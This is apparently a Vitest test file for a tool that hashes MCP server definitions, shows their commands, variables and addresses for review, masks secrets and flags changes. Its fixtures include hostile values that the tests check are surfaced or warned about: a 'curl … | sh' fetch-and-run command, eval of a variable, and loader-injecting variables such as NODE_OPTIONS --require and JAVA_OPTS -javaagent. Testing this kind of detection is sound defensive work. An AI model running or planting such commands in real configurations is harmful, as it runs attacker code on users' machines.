import { createHmac } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { HIDDEN_VALUE } from '../../shared/servers/configuration'
import type { ServerDefinition } from '../../shared/servers/server-config'
import { addressOf, processOf } from '../server-file/config-testing'
import { definitionHash, linesOf, subjectOf, whatOf, type TrustSnapshot } from './trust'

const SOURCE = '/srv/project/.mcp.json'
const server = processOf('node', ['server.js', '--port', '1'], {
  cwd: '/work',
  env: { A: 'literal-4711', B: '${TOKEN}' },
  envFile: '/srv/.env'
})
const remote = addressOf('https://example.com/mcp', { Authorization: 'Bearer ${secret:T}', X: 'y' })

function snapshotOf(definition: ServerDefinition): TrustSnapshot {
  const digestOf = (value: string) => createHmac('sha256', 'key').update(value).digest('hex')
  const lines = linesOf(definition).map(({ label, kept, written }) => ({
    label,
    text: kept,
    ...(written !== kept && { digest: digestOf(written) })
  }))
  return { lines, digestOf }
}

function changesOf(now: ServerDefinition, before: ServerDefinition) {
  const { lines } = subjectOf(now, SOURCE, snapshotOf(before), undefined)
  return lines.filter(({ change }) => change !== undefined)
}

describe('definitionHash', () => {
  const hash = definitionHash(server, SOURCE)

  it.each<[string, ServerDefinition]>([
    ['name', { ...server, name: 'other' }],
    ['scope', { ...server, scope: 'user' }],
    ['description', { ...server, description: 'other' }],
    ['settings', { ...server, settings: { maxRestarts: 1 } }],
    ['roots', { ...server, roots: ['/'] }],
    ['order of variables', { ...server, env: { B: '${TOKEN}', A: 'literal-4711' } }]
  ])('stays the same with another %s', (_what, definition) => {
    expect(definitionHash(definition, SOURCE)).toBe(hash)
  })

  it.each<[string, ServerDefinition, string]>([
    ['command', { ...server, command: 'deno' }, SOURCE],
    ['argument', { ...server, args: ['server.js', '--port', '2'] }, SOURCE],
    ['order of arguments', { ...server, args: ['--port', 'server.js', '1'] }, SOURCE],
    ['cut between arguments', { ...server, args: ['server.js --port', '1'] }, SOURCE],
    ['folder', { ...server, cwd: '/other' }, SOURCE],
    ['value of a variable', { ...server, env: { ...server.env, A: 'other' } }, SOURCE],
    ['name of a variable', { ...server, env: { AA: 'literal-4711', B: '${TOKEN}' } }, SOURCE],
    ['env file', { ...server, envFile: '/other/.env' }, SOURCE],
    ['address of metrics', { ...server, metricsUrl: 'http://127.0.0.1:9/' }, SOURCE],
    ['file that it stands in', server, '/other/.mcp.json']
  ])('is another with another %s', (_what, definition, source) => {
    expect(definitionHash(definition, source)).not.toBe(hash)
  })

  it('does not mind how the names of headers are written, and minds everything else of them', () => {
    const hashOf = (headers: Record<string, string>, transport = remote.transport) =>
      definitionHash({ ...remote, headers, transport }, SOURCE)
    const own = hashOf({ Abc: '1', Def: '2' })
    expect(hashOf({ DEF: '2', abc: '1' })).toBe(own)
    expect(hashOf({ abc: '1', def: '3' })).not.toBe(own)
    expect(hashOf({ abc: '2', def: '1' })).not.toBe(own)
    expect(hashOf({ Abc: '1', Def: '2' }, 'sse')).not.toBe(own)
  })
})

describe('subjectOf', () => {
  it('shows the exact command, one argument a line, and what its variables hold', () => {
    const subject = subjectOf(server, SOURCE, undefined, undefined)
    expect(subject.lines).toEqual([
      { label: 'command', text: 'node' },
      { label: 'argument 1', text: 'server.js' },
      { label: 'argument 2', text: '--port' },
      { label: 'argument 3', text: '1' },
      { label: 'folder', text: '/work' },
      { label: 'env A', text: 'literal-4711' },
      { label: 'env B', text: '${TOKEN}' },
      { label: 'env file', text: '/srv/.env' }
    ])
    expect(subject).toMatchObject({
      hash: definitionHash(server, SOURCE),
      name: 'test',
      scope: 'project',
      source: SOURCE,
      isChanged: false,
      wasRefused: false
    })
    expect(subject.flows.map(({ name }) => name)).toEqual(['TOKEN', '/srv/.env'])
  })

  it('shows where a server is asked for its metrics', () => {
    const metricsUrl = 'http://127.0.0.1:${PORT}/metrics?k=s3cret'
    const { lines, flows } = subjectOf({ ...server, metricsUrl }, SOURCE, undefined, undefined)
    expect(lines.at(-1)).toEqual({
      label: 'metrics',
      text: `http://127.0.0.1:\${PORT}/metrics?k=${HIDDEN_VALUE}`,
      hidden: { isPart: true, length: 41, signs: [] }
    })
    expect(flows).toContainEqual({
      ...{ kind: 'variable', name: 'PORT', goesTo: 'the metrics address', leaves: false }
    })
  })

  it('shows an address without what may be secret, and with its references', () => {
    const url = 'https://me:pw@${HOST}/x?a=1&b=${B}&c=Bearer ${C}&d#e'
    const { lines, warnings } = subjectOf(
      addressOf(url, {
        Authorization: 'Bearer ${T}',
        Cookie: 'a=${T}',
        D: '${T:-s3cret-fallback}'
      }),
      SOURCE,
      undefined,
      'refused'
    )
    const hidden = HIDDEN_VALUE
    expect(lines).toEqual([
      {
        label: 'address',
        text: `https://${hidden}@\${HOST}/x?a=${hidden}&b=\${B}&c=Bearer \${C}&${hidden}#${hidden}`,
        hidden: { isPart: true, length: 52, signs: [] }
      },
      { label: 'transport', text: 'auto' },
      { label: 'header Authorization', text: 'Bearer ${T}' },
      {
        label: 'header Cookie',
        text: hidden,
        hidden: { isPart: false, length: 6, signs: [] }
      },
      { label: 'header D', text: '${T:-s3cret-fallback}' }
    ])
    expect(warnings.map(({ kind }) => kind)).toContain('secret-leaves')
  })

  it('shows the value of a variable that makes the program run other code', () => {
    const { lines } = subjectOf(
      processOf('node', [], { env: { NODE_OPTIONS: '--require /tmp/x.js' } }),
      SOURCE,
      undefined,
      undefined
    )
    expect(lines[1]?.text).toBe('--require /tmp/x.js')
  })

  it.each([
    ['GIT_TOKEN', 'hunter2', HIDDEN_VALUE],
    ['CARGO_REGISTRY_TOKEN', 'hunter2', HIDDEN_VALUE],
    ['UV_INDEX_ACME_PASSWORD', 'hunter2', HIDDEN_VALUE],
    ['HTTPS_PROXY', 'http://me:hunter2@proxy:3128', 'http://•••@proxy:3128'],
    ['HTTPS_PROXY', 'http://proxy:3128', 'http://proxy:3128'],
    ['PIP_INDEX_URL', 'https://me:hunter2@acme.dev/simple', 'https://•••@acme.dev/simple'],
    ['GIT_CONFIG_KEY_0', 'core.sshCommand', 'core.sshCommand'],
    ['BUN_OPTIONS', '--preload ./evil.ts', '--preload ./evil.ts'],
    ['LUA_INIT', "os.execute('id')", "os.execute('id')"],
    ['JAVA_OPTS', '-javaagent:/tmp/e.jar', '-javaagent:/tmp/e.jar'],
    ['ERL_AFLAGS', '-eval halt().', '-eval halt().'],
    ['STARTUP', 'curl https://x.example/a | sh', 'curl https://x.example/a | sh'],
    ['STARTUP', '--key=ghp_abcdefgh12345678 --run x', `--key=${HIDDEN_VALUE} --run x`],
    ['A', '${API_KEY:-hunter2-hunter2}', '${API_KEY:-•••}'],
    ['TOKEN', 'true', 'true']
  ])('shows of the variable %s=%s: %s', (name, value, text) => {
    expect(linesOf(processOf('x', [], { env: { [name]: value } }))[1]).toMatchObject({
      label: `env ${name}`,
      text,
      written: value
    })
  })

  it('says how long a hidden value is, and what of a command it has in it', () => {
    const env = { API_TOKEN: 'curl x/y | sh; $(id)' }
    const definition = processOf('sh', ['-c', 'eval "$API_TOKEN"'], { env })
    const { lines, warnings } = subjectOf(definition, SOURCE, undefined, undefined)
    expect(lines.at(-1)).toEqual({
      label: 'env API_TOKEN',
      text: HIDDEN_VALUE,
      hidden: { isPart: false, length: 20, signs: ['spaces', '/', ';', '|', '$('] }
    })
    expect(warnings).toContainEqual({
      kind: 'hidden-code',
      message:
        'The code in the arguments can run what is in the variable API_TOKEN, which is hidden here. Look at it in the file.'
    })
  })

  it.each([
    ['node', ['-e', 'run(process.env.API_TOKEN)'], true],
    ['node', ['server.js'], false]
  ])('warns of a hidden value that code in the arguments can run: %s %j', (command, args, is) => {
    const definition = processOf(command, args, { env: { API_TOKEN: 'hunter2-hunter2' } })
    const { warnings } = subjectOf(definition, SOURCE, undefined, undefined)
    expect(warnings.some(({ kind }) => kind === 'hidden-code')).toBe(is)
  })

  it('says that it was refused before', () => {
    expect(subjectOf(server, SOURCE, undefined, 'refused').wasRefused).toBe(true)
  })

  it('says nothing changed when nothing did', () => {
    expect(subjectOf(server, SOURCE, snapshotOf(server), undefined).isChanged).toBe(false)
    expect(subjectOf(remote, SOURCE, snapshotOf(remote), undefined).isChanged).toBe(false)
  })

  it('shows an argument that was changed, put in front, or taken away as just that', () => {
    expect(changesOf({ ...server, args: ['server.js', '--port', '2'] }, server)).toEqual([
      { label: 'argument 3', text: '2', change: { kind: 'changed', before: '1' } }
    ])
    expect(changesOf({ ...server, args: ['--evil', ...server.args] }, server)).toEqual([
      { label: 'argument 1', text: '--evil', change: { kind: 'added' } }
    ])
    expect(changesOf({ ...server, args: ['--port', '1'] }, server)).toEqual([
      { label: 'argument 1', text: '', change: { kind: 'removed', before: 'server.js' } }
    ])
  })

  it('sees that a hidden value is another one, without showing either', () => {
    const withToken = (token: string): ServerDefinition => ({ ...server, env: { TOKEN: token } })
    expect(changesOf(withToken('another-4711'), withToken('literal-4711'))).toEqual([
      {
        label: 'env TOKEN',
        text: HIDDEN_VALUE,
        hidden: { isPart: false, length: 12, signs: [] },
        change: { kind: 'changed', before: `${HIDDEN_VALUE} (another value)` }
      }
    ])
    const before = { ...remote, url: 'https://example.com/?k=one' }
    const [line] = changesOf({ ...remote, url: 'https://example.com/?k=two' }, before)
    expect(line?.change?.before).toBe(`https://example.com/?k=${HIDDEN_VALUE} (another value)`)
  })

  it('shows lines that came and went, also when a process became an address', () => {
    const changes = changesOf({ ...server, env: { B: '${TOKEN}', C: '${X}' } }, server)
    expect(changes).toEqual([
      { label: 'env C', text: '${X}', change: { kind: 'added' } },
      { label: 'env A', text: '', change: { kind: 'removed', before: HIDDEN_VALUE } }
    ])
    const kinds = changesOf(remote, server).map(({ change }) => change?.kind)
    expect(kinds.filter((kind) => kind === 'added')).toHaveLength(4)
    expect(kinds.filter((kind) => kind === 'removed')).toHaveLength(8)
  })

  it('copes with very many arguments', () => {
    const args = Array.from({ length: 3_000 }, (_, index) => `a${index}`)
    const changes = changesOf({ ...server, args: [...args, 'more'] }, { ...server, args })
    expect(changes).toEqual([{ label: 'argument 3001', text: 'more', change: { kind: 'added' } }])
  })
})

describe('whatOf', () => {
  it('is the command line, with quotes where they matter', () => {
    expect(whatOf(processOf('node', ['a b', "it's", '', '${X}']))).toBe(
      `node 'a b' 'it'\\''s' '' \${X}`
    )
    expect(whatOf(addressOf('https://u:p@h/?k=v'))).toBe('https://•••@h/?k=•••')
  })
})
